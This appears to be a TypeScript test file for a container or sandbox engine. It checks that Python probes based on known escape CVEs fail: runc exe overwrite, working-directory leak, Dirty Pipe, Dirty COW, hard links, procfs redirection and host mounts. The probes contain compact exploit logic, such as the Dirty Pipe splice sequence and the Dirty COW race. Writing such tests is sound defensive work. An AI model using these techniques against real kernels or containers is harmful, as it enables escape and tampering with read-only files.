/** Ways to the host's files that the contract has no check for. Nothing of the host is ever written to. */
import assert from "node:assert/strict";
import { statSync } from "node:fs";
import { type Check, checksOf } from "../../testing/check.ts";
import { code, python, runReport } from "../../testing/programs.ts";

const hostRefuses = { mayPass: "the host's kernel is not vulnerable" } as const;

/** Attacks of the group `files`. */
export const fileAttacks: readonly Check[] = checksOf("files", [
  {
    name: "overwrite-executable",
    title: "opens no running program for writing through /proc/PID/exe",
    incident: "CVE-2019-5736: runc overwritten through /proc/self/exe",
    control: { mayPass: "the user of the tests may not write the interpreter either" },
    async run({ engine }) {
      // ETXTBSY is the kernel's "not while it runs": an attacker only has to wait. Opening changes nothing.
      const attack = code`
        import errno, json, os
        reached = []
        for pid in ["self"] + [name for name in os.listdir("/proc") if name.isdigit()]:
            try: os.close(os.open(f"/proc/{pid}/exe", os.O_WRONLY))
            except OSError as error:
                if error.errno != errno.ETXTBSY: continue
            reached.append(pid)
        print(json.dumps(reached))
      `;
      assert.deepEqual(await runReport<string[]>(engine, python(attack)), []);
    },
  },
  {
    name: "working-directory-outside",
    title: "reaches the host's root through no descriptor, working directory or root of any process",
    incident: "CVE-2024-21626: WORKDIR /proc/self/fd/N outside the container",
    control: "fails",
    async run({ engine }) {
      const climb = code`
        import json, os
        seen = set()
        places = [f"/proc/self/fd/{fd}" for fd in range(3, 256)]
        for pid in ["self"] + [name for name in os.listdir("/proc") if name.isdigit()]:
            places += [f"/proc/{pid}/cwd", f"/proc/{pid}/root"]
        for place in places:
            try:
                os.chdir(place)
                os.chdir("../" * 64)
                root = os.stat(".")
                seen.add(f"{root.st_dev}:{root.st_ino}")
            except OSError:
                pass
        print(json.dumps(sorted(seen)))
      `;
      const host = statSync("/");
      const seen = await runReport<string[]>(engine, python(climb));
      assert.ok(!seen.includes(`${host.dev}:${host.ino}`), "the host's root was reached");
    },
  },
  {
    name: "dirty-pipe",
    title: "lets no pipe write into a file that is open for reading alone",
    incident: "CVE-2022-0847 (Dirty Pipe): splice into the page cache of a read-only file",
    control: hostRefuses,
    async run({ engine }) {
      // The victim is the program's own file: on a kernel with the fault nothing else is harmed.
      const attack = code`
        import json, os
        with open("victim", "wb") as file: file.write(b"untouched" * 1000)
        os.chmod("victim", 0o444)
        reader, writer = os.pipe()
        size = 65536
        # Every buffer of the pipe has been used once, which leaves the flag that lets writes merge.
        os.write(writer, b"x" * size)
        left = size
        while left: left -= len(os.read(reader, left))
        victim = os.open("victim", os.O_RDONLY)
        try: os.splice(victim, writer, 1, offset_src=0)
        except (OSError, AttributeError) as error: spliced = type(error).__name__
        else:
            spliced = "yes"
            os.write(writer, b"OVERWRITTEN")
        print(json.dumps({"spliced": spliced, "intact": open("victim", "rb").read() == b"untouched" * 1000}))
      `;
      const { intact } = await runReport<{ intact: boolean }>(engine, python(attack));
      assert.equal(intact, true, "a read-only file was changed");
    },
  },
  {
    name: "dirty-cow",
    title: "lets no race write into a private mapping of a read-only file",
    incident: "CVE-2016-5195 (Dirty COW): madvise against /proc/self/mem",
    control: hostRefuses,
    async run({ engine }) {
      const attack = code`
        import ctypes, json, mmap, os, threading, time
        with open("victim", "wb") as file: file.write(b"u" * 4096)
        os.chmod("victim", 0o444)
        victim = os.open("victim", os.O_RDONLY)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, victim, 0)
        end = time.monotonic() + 0.2
        def discard():
            while time.monotonic() < end: libc.madvise(address, 4096, 4)
        thread = threading.Thread(target=discard)
        thread.start()
        try:
            memory = os.open("/proc/self/mem", os.O_RDWR)
            while time.monotonic() < end: os.pwrite(memory, b"OVERWRITTEN", address)
        except OSError:
            pass
        thread.join()
        print(json.dumps(open("victim", "rb").read() == b"u" * 4096))
      `;
      assert.equal(await runReport<boolean>(engine, python(attack)), true, "a read-only file was changed");
    },
  },
  {
    name: "hard-links",
    title: "makes no hard link to a file of the system",
    incident: "CVE-2024-28185 class: a link that a privileged helper follows or owns later",
    control: { notRun: "as root it would make links to the host's own files" },
    async run({ engine }) {
      const attack = code`
        import json, os, sys
        made = []
        for victim in ("/etc/passwd", "/bin/sh", "/proc/1/exe", os.path.realpath(sys.executable)):
            for folder in (".", "/tmp", "/dev/shm"):
                try: os.link(victim, os.path.join(folder, "linked"))
                except OSError: continue
                made.append(victim)
                os.unlink(os.path.join(folder, "linked"))
        print(json.dumps(made))
      `;
      assert.deepEqual(await runReport<string[]>(engine, python(attack)), []);
    },
  },
  {
    name: "procfs-redirect",
    title: "lets a program put nothing of its own over /proc or /sys",
    incident: "CVE-2025-31133, CVE-2025-52565, CVE-2025-52881: masked paths replaced by links and mounts",
    control: { notRun: "as root it would change the host's own /proc" },
    async run({ engine }) {
      const attack = code`
        import json, os
        changed = []
        for path in ("/proc/self/attr/current", "/proc/self/attr/exec", "/proc/self/oom_score_adj"):
            # A value below the own one would make others die first.
            text = b"-900" if path.endswith("adj") else b"unconfined"
            try:
                with open(path, "wb", buffering=0) as file: file.write(text)
                changed.append(path)
            except OSError:
                pass
        for path in ("/proc/x", "/sys/x", "/proc/sys/x", "/dev/x", "/run/x"):
            for make, undo in ((lambda p: os.symlink("/", p), os.unlink), (os.mkdir, os.rmdir)):
                try: make(path)
                except OSError: continue
                changed.append(path)
                # Should it be the host's own after all.
                undo(path)
        print(json.dumps(changed))
      `;
      const changed = await runReport<string[]>(engine, python(attack));
      assert.deepEqual(changed, []);
    },
  },
  {
    name: "mounts-of-the-host",
    title: "has no mount that shows the host's home, configuration or data directories",
    incident: "bind mounts of the host's directories (docker -v /:/host)",
    control: { mayPass: "a host that has none of these directories" },
    async run({ engine }) {
      const look = code`
        import json, os
        found = [path for path in ("/host", "/hostfs", "/rootfs", "/mnt/host", "/var/lib/docker", "/var/lib/kubelet", "/var/lib/postgresql", "/var/lib/crucible", "/boot", "/etc/systemd", "/var/log/dpkg.log", "/var/lib/dpkg/status") if os.path.exists(path)]
        print(json.dumps(found))
      `;
      const found = await runReport<string[]>(engine, python(look));
      assert.deepEqual(found, []);
    },
  },
]);
